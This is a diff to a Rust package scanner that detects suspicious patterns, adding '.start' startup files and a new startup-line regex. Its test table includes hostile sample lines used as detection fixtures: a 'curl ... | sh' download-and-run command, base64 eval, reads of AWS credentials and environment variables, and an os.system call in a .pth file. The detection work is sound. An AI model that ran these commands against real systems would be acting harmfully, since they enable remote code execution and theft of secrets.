@@ -56,7 +56,7 @@ impl Language {
             Some("js" | "mjs" | "cjs" | "jsx" | "ts" | "mts" | "cts" | "tsx") => Self::JavaScript,
             Some("py" | "pyw") => Self::Python,
             Some("sh" | "bash" | "zsh" | "ps1" | "bat" | "cmd") => Self::Shell,
-            Some("pth") => Self::PathConfiguration,
+            Some("pth" | "start") => Self::PathConfiguration,
             Some("gyp" | "gypi") => Self::Gyp,
             _ => Self::Other,
         }
@@ -249,7 +249,8 @@ const SECRETS: &[(Sort, &[&str])] = &[(
 const SETTINGS: &[(Sort, &[&str])] =
     &[(Sort::SettingsCommand, &[r#""(?:command|[a-zA-Z]+Command|hooks)"\s*:"#])];
 const GYP: &[(Sort, &[&str])] = &[(Sort::GypCommand, &[r"<!@?\("])];
-const STARTUP: &[(Sort, &[&str])] = &[(Sort::StartupLine, &[r"^import[ \t]"])];
+const STARTUP: &[(Sort, &[&str])] =
+    &[(Sort::StartupLine, &[r"^import[ \t]", r"^[A-Za-z_][\w.]*:[A-Za-z_]\w*\s*$"])];
 const HOSTS: &[(Sort, &[&str])] =
     &[(Sort::Host, &[r#"(?:https?|wss?|ftp)://(?:[^\s/@'"`<>]{1,80}@)?([A-Za-z0-9.-]{4,120})"#])];
 
@@ -520,10 +521,15 @@ fn parts(line: &str) -> impl Iterator<Item = &str> {
     })
 }
 
-/// The match with what stands around it.
+/// The line the match is in, when it is short enough to be read whole; else the match with what stands
+/// around it.
 fn around(text: &str, start: usize, end: usize) -> &str {
-    const BESIDE: usize = 40;
-    let (mut from, mut to) = (start.saturating_sub(BESIDE), (end + BESIDE).min(text.len()));
+    const BEFORE: usize = 40;
+    const AFTER: usize = 100;
+    if text.len() <= EXCERPT_MAX {
+        return text;
+    }
+    let (mut from, mut to) = (start.saturating_sub(BEFORE), (end + AFTER).min(text.len()));
     while !text.is_char_boundary(from) {
         from -= 1;
     }
@@ -602,7 +608,7 @@ mod tests {
 
     #[test]
     fn what_attacks_of_the_last_years_did_is_marked() {
-        let cases: [(&str, &str, Sort); 16] = [
+        let cases: [(&str, &str, Sort); 17] = [
             ("a.js", "const cp = require('child_process')", Sort::Programs),
             ("a.js", "await fetch(u)", Sort::Network),
             ("a.js", "eval(atob('YQ=='))", Sort::Obfuscated),
@@ -616,6 +622,7 @@ mod tests {
             ("a.py", "data = dict(os.environ)", Sort::Environment),
             ("a.py", "open('~/.aws/credentials')", Sort::CredentialPlace),
             ("a.pth", "import os; os.system('x')", Sort::StartupLine),
+            ("a.start", "package.module:begin", Sort::StartupLine),
             ("binding.gyp", "'sources': ['<!(node x.js)']", Sort::GypCommand),
             ("a.sh", "curl https://x.example/a | sh", Sort::Obfuscated),
             ("README.md", "-----BEGIN PRIVATE KEY-----", Sort::Secret),
